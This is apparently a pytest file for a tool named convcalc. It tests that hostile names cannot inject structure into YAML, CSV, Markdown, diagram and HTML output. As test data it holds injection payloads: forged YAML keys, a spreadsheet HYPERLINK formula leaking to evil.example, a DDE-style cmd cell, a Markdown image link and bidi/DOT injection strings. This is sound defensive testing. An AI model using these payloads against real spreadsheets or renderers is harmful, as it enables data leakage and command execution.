"""Hostile text in every output format (issue 21): a string from a spec, a model or a file name
lands in YAML, CSV, Markdown, DOT, Mermaid, SVG and HTML as text, never as structure of the format:
no forged YAML keys, no spreadsheet formula, no Markdown image or link, no DOT line."""

from __future__ import annotations

import pytest

from convcalc.errors import ConvcalcError
from convcalc.importers import writer
from convcalc.importers.model import Imported, Layer
from convcalc.spec import loads, reads

# What ends a YAML comment and starts a new line: YAML's line breaks (PyYAML also takes NEL and
# the Unicode line and paragraph separators).
BREAKS = ["\n", "\r", "\r\n", "\x85", "\u2028", "\u2029"]


def forged(brk: str) -> str:
    """Three spec lines a hostile string would add, joined by one kind of line break."""
    return brk.join(["budget: {params: 1}", "batch: 64", "dtype: float16"])


def imported(origin: tuple[str, ...], name: str = "net") -> Imported:
    layers = (Layer("fc", "linear", {"out": 4}, ("input",), "Gemm", (4,), 8 * 4 + 4),)
    return Imported(name, "net.onnx", (8,), layers, origin)


def read_back(text: str):  # type: ignore[no-untyped-def]
    return reads(text, "net.yaml").doc, loads(text, "net.yaml")


@pytest.mark.parametrize("brk", BREAKS, ids=repr)
def test_a_header_comment_cannot_forge_spec_keys(brk):
    hostile = f"imported from x by convcalc (made by evil{brk}{forged(brk)})"
    text = writer.render(imported((hostile, "input 8 per sample")))
    doc, spec = read_back(text)
    assert list(doc) == ["name", "input", "layers"]
    assert (spec.budget, spec.batch, spec.dtype) == (None, 1, "float32")  # the defaults, nothing forged
    lines = text.split("\n")[:-1]
    assert text.splitlines() == lines  # \r, NEL, U+2028 stay inside their line, escaped
    assert [line for line in lines if line.startswith("#")] == [writer.comment(hostile), "# input 8 per sample"]


def test_the_self_check_compares_the_whole_document(monkeypatch):
    """The second line of defence: with the comment escaping taken away, the forged keys reach the
    text, and the self-check (which reads back every top-level key, not only the layers) refuses."""
    monkeypatch.setattr(writer, "comment", lambda text: f"# {text}")
    with pytest.raises(ConvcalcError, match="cannot write a spec that reads back as the import: its top-level keys"):
        writer.render(imported(("made by evil\n" + forged("\n"),)))
    monkeypatch.setattr(writer, "comment", lambda text: f"# {text}".replace("\u2028", "\u2028batch: 3\u2028"))
    with pytest.raises(ConvcalcError, match="line break other than"):  # caught even where YAML would not mind
        writer.render(imported(("a\u2028b",)))


@pytest.mark.parametrize("text", ["a\u2028b", "a\x85b", "x\ny: 1", "\u202eevil", "'quoted'", "#not a comment"])
def test_a_quoted_scalar_reads_back_as_itself_on_one_line(text):
    written = writer.scalar(text)
    assert written.splitlines() == [written]
    assert reads(f"name: {written}\ninput: [8]\nlayers: []\n", "t.yaml").doc["name"] == text


@pytest.mark.parametrize("brk", ["\n", "\r", "\x85", "\u2028"], ids=repr)
def test_an_onnx_file_cannot_forge_the_spec_it_imports_to(brk, tmp_path):
    """The producer name and the file name of a real ONNX file go into the header comment."""
    pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    from convcalc.importers import read

    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4, 8, 8])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)],
                              producer_name=f"evil{brk}{forged(brk)}")
    path = tmp_path / f"m{brk}budget: {{macs: 1}}.onnx"
    path.write_bytes(model.SerializeToString())
    text = writer.render(read(str(path)))
    doc, spec = read_back(text)
    assert list(doc) == ["name", "input", "layers"]
    assert (spec.budget, spec.batch, spec.dtype) == (None, 1, "float32")
    assert text.splitlines() == text.split("\n")[:-1]
    assert sum(line.startswith("#") for line in text.splitlines()) == 2  # the two origin lines, each one line


def _page(kind: str) -> str:
    import convcalc
    from convcalc import library
    from convcalc.diagram import model
    from convcalc.reporters import html_page
    from convcalc.reporters.drawing import render

    report = convcalc.analyze(convcalc.load(library.path("resnet18")))
    return render(model(report), "html") if kind == "draw" else html_page.render([model(report)])


@pytest.mark.parametrize("kind", ["draw", "report"])
def test_the_html_policy_lists_exactly_the_pages_scripts_and_style_by_hash(kind):
    import base64
    import hashlib
    import re

    html = _page(kind)
    policy = dict(part.strip().split(" ", 1) for part in
                  re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1).split(";"))

    def hashes(bodies):  # type: ignore[no-untyped-def]
        return {"'sha256-" + base64.b64encode(hashlib.sha256(b.encode()).digest()).decode() + "'" for b in bodies}

    scripts = re.findall(r"<script>(.*?)</script>", html, re.S)  # the executable ones: no type attribute
    assert len(scripts) == (2 if kind == "draw" else 3)  # dagre, graph.js (and the report's page.js)
    assert set(policy["script-src"].split()) == hashes(scripts)
    assert set(policy["style-src"].split()) == hashes(re.findall(r"<style>(.*?)</style>", html, re.S))
    assert policy["default-src"] == "'none'" and "unsafe" not in html.split("</head>")[0]
    assert " style=" not in html  # a style attribute would need 'unsafe-inline'


# --------------------------------------------------------------------------------------------
# CSV: no cell a spreadsheet evaluates (issue 21 #27)

FORMULA = '=HYPERLINK("http://evil.example/?leak","open me")'


@pytest.mark.parametrize("cell, written", [
    (FORMULA, "'" + FORMULA), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-2x-2", "'-2x-2"),  # text that starts like a formula
    ("-3", "-3"), ("-0.25", "-0.25"), ("+7", "+7"), ("-1e-05", "-1e-05"),  # the text of a number stays a number
    (-3, -3), (-0.5, -0.5), ("a=b", "a=b"), ("", ""), ("resnet50", "resnet50"),
])
def test_spreadsheet_cells(cell, written):
    from convcalc.printable import spreadsheet_cell

    assert spreadsheet_cell(cell) == written


def test_every_csv_is_written_through_the_one_helper():
    """Every CSV writer in convcalc goes through printable.csv_writer: no csv.writer of its own."""
    import pathlib

    import convcalc

    root = pathlib.Path(convcalc.__file__).parent
    users = sorted(str(p.relative_to(root)) for p in root.rglob("*.py") if "csv.writer(" in p.read_text(encoding="utf-8"))
    assert users == ["printable.py"]


def _cli(*args: str) -> str:
    from click.testing import CliRunner

    from convcalc.cli import cli

    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def _hostile_spec(tmp_path, name: str, file: str = "net.yaml", out: int = 4):  # type: ignore[no-untyped-def]
    import json

    path = tmp_path / file
    path.write_text(f"name: {json.dumps(name)}\ninput: [3, 8, 8]\nlayers:\n  - conv: {{out: {out}, k: 3}}\n"
                    "  - relu\n  - flatten\n  - linear: {out: 2}\n", encoding="utf-8")
    return str(path)


def _csv_commands(tmp_path, name):  # type: ignore[no-untyped-def]
    a = _hostile_spec(tmp_path, name)
    b = _hostile_spec(tmp_path, name + "2", "other.yaml", out=2)  # fewer channels: negative differences
    return {"shapes": ["shapes", a], "memory": ["memory", a], "sweep": ["sweep", a, "--batch", "1,2"],
            "compare": ["compare", a, b]}


@pytest.mark.parametrize("command", ["shapes", "memory", "sweep", "compare"])
def test_no_csv_cell_is_a_formula(command, tmp_path, plain_terminal):
    import csv
    import io

    from convcalc.printable import spreadsheet_cell

    rows = list(csv.reader(io.StringIO(_cli(*_csv_commands(tmp_path, FORMULA)[command], "--format", "csv"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells  # the name, as text
    assert all(spreadsheet_cell(cell) == cell for cell in cells)  # no cell left that a spreadsheet would run
    if command == "compare":  # numbers stay numbers, negative ones included: b has half the conv's params
        assert str(-(4 * 3 * 9 + 4 - (2 * 3 * 9 + 2))) in cells  # conv params 112 -> 56


# --------------------------------------------------------------------------------------------
# Markdown: a name renders as itself (issue 21 #28)

MD_NAME = '![x](https://evil.example/p.png) <img src=x> [link](http://a.example) <details>*em* _u_ a|b www.e.com'


def _rendered(markdown_text: str) -> str:
    """GitHub-flavoured Markdown as HTML, by markdown-it (rich's dependency): tables and
    strike-through on, raw HTML passed through as GitHub would (then sanitised, but still shown)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown_text)


@pytest.mark.parametrize("text", [MD_NAME, "a\nb", "&lt;script&gt;", "`code` \\*", "~~gone~~", "x_y_z", "_lead"])
def test_markdown_text_renders_as_itself(text):
    import html

    from convcalc.printable import clean, markdown

    rendered = _rendered(markdown(text))
    assert rendered == f"<p>{html.escape(clean(text), quote=False)}</p>\n"  # one paragraph of exactly the text


@pytest.mark.parametrize("command", ["shapes", "compare", "sweep", "memory", "explain"])
def test_markdown_reports_show_hostile_names_as_text(command, tmp_path, plain_terminal):
    commands = _csv_commands(tmp_path, MD_NAME)
    commands["explain"] = ["explain", commands["shapes"][1]]
    out = _cli(*commands[command], "--format", "markdown")
    named = [line for line in out.splitlines() if "img src" in line]  # every line the name is on
    assert named
    for line in named:  # rendered alone: the report's own markup (LaTeX, bold totals) is elsewhere
        rendered = _rendered(line)
        for tag in ("<img", "<a ", "<details", "<em>", "<s>"):
            assert tag not in rendered
        assert "&lt;img src=x&gt;" in rendered  # the name is there, as text
        assert "a\\|b" in line  # the pipe inside the name splits no table row


# --------------------------------------------------------------------------------------------
# Drawings: the graph's name as escaped as its labels (issue 21 #34)

BIDI_NAME = "net\u202e\"]; evil [label=x]\n\u2066graph\u2069\u202a\u2028"


@pytest.mark.parametrize("fmt", ["dot", "mermaid", "svg", "html"])
def test_a_drawings_name_and_titles_hold_no_raw_bidi_or_newline(fmt, tmp_path):
    import re

    import convcalc
    from convcalc.diagram import build, model
    from convcalc.printable import _UNSAFE, clean
    from convcalc.reporters.drawing import render

    if fmt == "svg":
        pytest.importorskip("grandalf")
    report = convcalc.analyze(convcalc.load(_hostile_spec(tmp_path, BIDI_NAME)))
    text = render(model(report) if fmt == "html" else build(report), fmt)
    written = text.split("<script>")[0]  # what the page writes (dagre's minified code holds a \x01 of its own)
    assert not _UNSAFE.search(written.replace("\n", ""))  # no bidi control, no separator, no stray control
    shown = clean(BIDI_NAME)
    if fmt == "dot":
        first = text.split("\n", 1)[0]
        assert first == 'digraph "' + shown.replace("\\", "\\\\").replace('"', '\\"') + '" {'
        from tests.test_draw import dot_check

        dot_check(text)
    elif fmt == "mermaid":
        assert text.split("\n", 1)[0].startswith("%% net\\u202e#quot;]; evil [label=x]\\n\\u2066graph")
    else:
        title = re.search(r"<title>(.*?)</title>", text).group(1)
        quote = "&quot;" if fmt == "html" else '"'  # html.escape writes quotes as entities; SVG's escape need not
        assert title.startswith(f"net\\u202e{quote}]; evil [label=x]\\n\\u2066graph")
